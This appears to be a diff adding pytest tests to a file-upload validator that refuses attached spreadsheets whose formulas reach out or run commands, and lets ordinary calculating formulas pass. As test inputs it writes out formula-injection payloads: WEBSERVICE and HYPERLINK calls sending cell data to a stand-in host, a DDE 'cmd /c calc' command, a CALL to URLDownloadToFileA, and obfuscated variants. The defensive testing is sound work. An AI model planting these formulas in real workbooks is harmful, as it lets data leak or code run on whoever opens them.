@@ -108,6 +108,65 @@ def test_it_refuses_what_runs_hides_or_reaches_out(content: bytes, code: str) ->
     assert refusal(content) == code
 
 
+def _with_formula(formula: str) -> bytes:
+    out = io.BytesIO()
+    with xlsxwriter.Workbook(out) as book:
+        page = book.add_worksheet("表")
+        page.write_number("B1", 1)
+        page.write_formula("A1", formula, None, 1)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '=_xlfn.WEBSERVICE("https://x.example/?"&B1)',
+        '=hyperlink("https://x.example/"&B1,"点")',
+        "=cmd|'/c calc'!A0",
+        "=IF(B1>0,DDE(B1,B1,B1),0)",
+        '=RTD("prog",,"x")',
+        '=_xlfn.IMAGE("https://x.example/a.png")',
+        "='[别的.xlsx]表'!A1",
+        "='file:///C:/a/[b.xlsx]S'!A1",
+        "='\\\\host\\share\\[b.xlsx]S'!A1",
+        '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)',
+    ],
+)
+def test_an_attached_workbook_with_a_formula_that_reaches_out_is_refused(formula: str) -> None:
+    """Also as a table attached to a visit or an appeal, which others open."""
+    assert refusal(_with_formula(formula)) == "papers.file.formulas"
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '=SUM(B1:B9)*1.13&" 元"',
+        '=IF(B1="WEBSERVICE(x)|y","[a]b!",VLOOKUP(B1,表!A1:C9,2,0))',
+        "='表'!B1",
+        "=SUM(表1[金额])",
+        "=表1[金额]-表!B1",
+        "=SUM(表1[金额] 表!A1:B2)",
+        "=表1[[#This Row],[金额]]*2",
+        "=RECALL(1)+MYCALL(2)",
+    ],
+)
+def test_an_attached_workbook_may_reckon(formula: str) -> None:
+    assert look(_with_formula(formula)) is Kind.XLSX
+
+
+def test_names_and_conditions_and_odd_spellings_are_looked_at_too() -> None:
+    """A formula written with character references, under a prefix, in UTF-16, in another folder; a table is only read."""
+    told = '<x:worksheet xmlns:x="a"><x:f>WEBS&#69;RVICE(A1)</x:f></x:worksheet>'
+    assert refusal(archive(("other/part.bin.xml", told))) == "papers.file.formulas"
+    wide = '<?xml version="1.0" encoding="UTF-16"?><w><f>WEB<!-- -->SERVICE(A1)</f></w>'.encode("utf-16")
+    assert refusal(archive(("xl/worksheets/sheet1.xml", wide))) == "papers.file.formulas"
+    named = "<workbook><definedNames><definedName name='a'>cmd|'/c calc'!A0</definedName></definedNames></workbook>"
+    assert refusal(archive(("xl/workbook.xml", named))) == "papers.file.formulas"
+    checked = '<w><dataValidation><formula1>WEBSERVICE("x")</formula1></dataValidation></w>'
+    assert refusal(archive(("xl/worksheets/sheet1.xml", checked))) == "papers.file.formulas"
+    assert look(_with_formula("=[1]表!A1"), wanted=TABLES) is Kind.XLSX
+
+
 def test_a_template_fetched_from_elsewhere_is_refused_and_a_hyperlink_is_not() -> None:
     """attachedTemplate is how a document without macros brings one in when it is opened."""
 
